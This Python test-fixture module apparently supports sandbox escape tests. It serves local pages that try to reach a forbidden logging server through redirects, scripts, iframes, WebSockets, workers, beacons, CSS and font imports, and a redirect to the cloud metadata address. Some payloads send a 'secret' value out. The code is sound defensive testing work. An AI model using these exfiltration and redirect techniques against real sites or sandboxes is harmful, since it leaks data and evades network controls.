"""Servers for the escape-attempt tests: a logging server that must never be reached, and an
allowed site whose pages try every way out to it (redirects, scripts, frames, sockets, ...)."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


@dataclass
class Log:
    """Every connection and request line the logging server received."""

    connections: int = 0
    requests: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def count(self) -> int:
        with self.lock:
            return self.connections


class _Logger(socketserver.BaseRequestHandler):
    log: Log

    def handle(self) -> None:
        with self.log.lock:
            self.log.connections += 1
        self.request.settimeout(2)
        try:
            line = self.request.recv(4096).split(b"\r\n", 1)[0].decode("latin-1")
        except OSError:
            line = "(no request line)"
        with self.log.lock:
            self.log.requests.append(line)
        body = b"LEAKED"
        self.request.sendall(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
            + str(len(body)).encode()
            + b"\r\nConnection: close\r\n\r\n"
            + body
        )


@contextmanager
def logging_server() -> Iterator[tuple[int, Log]]:
    """A TCP server on 127.0.0.1 that logs every connection (even ones that send nothing)."""
    log = Log()
    handler = type("Handler", (_Logger,), {"log": log})
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], log
    finally:
        server.shutdown()
        server.server_close()


def pages(bad: str) -> dict[str, str]:
    """path -> html of the allowed site; `bad` is the logging server's origin."""
    script = "<script>{}</script>"
    return {
        "/start": "<title>Start</title><a href='/other'>Other page</a>",
        "/other": "<title>Other</title><p>fine</p>",
        "/preconnect": f"<link rel='preconnect' href='{bad}'><p>preconnect</p>",
        "/meta": f"<meta http-equiv='refresh' content='0;url={bad}/meta'><p>meta</p>",
        "/location": script.format(f"location = '{bad}/location'"),
        "/popup": script.format(f"window.open('{bad}/popup')"),
        "/blank": f"<title>Blank</title><a id='x' href='{bad}/blank' target='_blank'>Out</a>",
        "/iframe": f"<iframe src='{bad}/iframe'></iframe>",
        "/img": f"<img src='{bad}/img.png' alt='pic'>",
        "/fetch": script.format(f"fetch('{bad}/fetch?data=secret').catch(() => 0)"),
        "/xhr": script.format(
            f"const x = new XMLHttpRequest(); x.open('GET', '{bad}/xhr'); x.send()"
        ),
        "/websocket": script.format(f"new WebSocket('{bad.replace('http', 'ws')}/ws')"),
        "/form": f"<form id='f' method='post' action='{bad}/form'><input name='q' value='s'>"
        "</form>" + script.format("document.getElementById('f').submit()"),
        "/css": f"<style>@import url('{bad}/import.css');</style><p>css</p>",
        "/prefetch": f"<link rel='prefetch' href='{bad}/prefetch'><p>prefetch</p>",
        "/beacon": script.format(f"navigator.sendBeacon('{bad}/beacon', 'secret')"),
        "/eventsource": script.format(f"new EventSource('{bad}/events')"),
        "/worker": script.format(
            f"new Worker(URL.createObjectURL(new Blob([\"fetch('{bad}/worker').catch(() => 0)\"])))"
        ),
        "/worker-ws": script.format(
            "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('"
            f"{bad.replace('http', 'ws')}/wsw')\"])))"
        ),
        "/font": f"<style>@font-face {{font-family: F; src: url('{bad}/f.woff')}} "
        "p {font-family: F}</style><p>font</p>",
        "/sw": script.format(
            "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => 0)"
        ),
        "/sw.js": f"self.addEventListener('install', () => fetch('{bad}/sw'));",
        "/ping": f"<a id='p' href='/other' ping='{bad}/ping'>Ping link</a>",
    }


REDIRECTS = {"/r301": 301, "/r302": 302, "/r307": 307, "/r308": 308}


@contextmanager
def allowed_site(bad_port: int) -> Iterator[str]:
    """The allowed site on another port; yields its base url."""
    bad, holder = f"http://127.0.0.1:{bad_port}", {}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def _answer(self) -> None:
            path = self.path.split("?")[0]
            if path in REDIRECTS:
                self.send_response(REDIRECTS[path])
                self.send_header("Location", f"{bad}{path}")
                self.end_headers()
                return
            if path in ("/chain", "/chain-hop"):  # an allowed hop first, then out
                self.send_response(302)
                self.send_header("Location", "/chain-hop" if path == "/chain" else f"{bad}/chain")
                self.end_headers()
                return
            if path == "/to-metadata":
                self.send_response(302)
                self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
                self.end_headers()
                return
            html = holder["pages"].get(path)
            if html is None:
                self.send_error(404)
                return
            body = html.encode()
            kind = "application/javascript" if path.endswith(".js") else "text/html"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = _answer
        do_POST = _answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    holder["pages"] = pages(bad)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield base
    finally:
        server.shutdown()
        server.server_close()
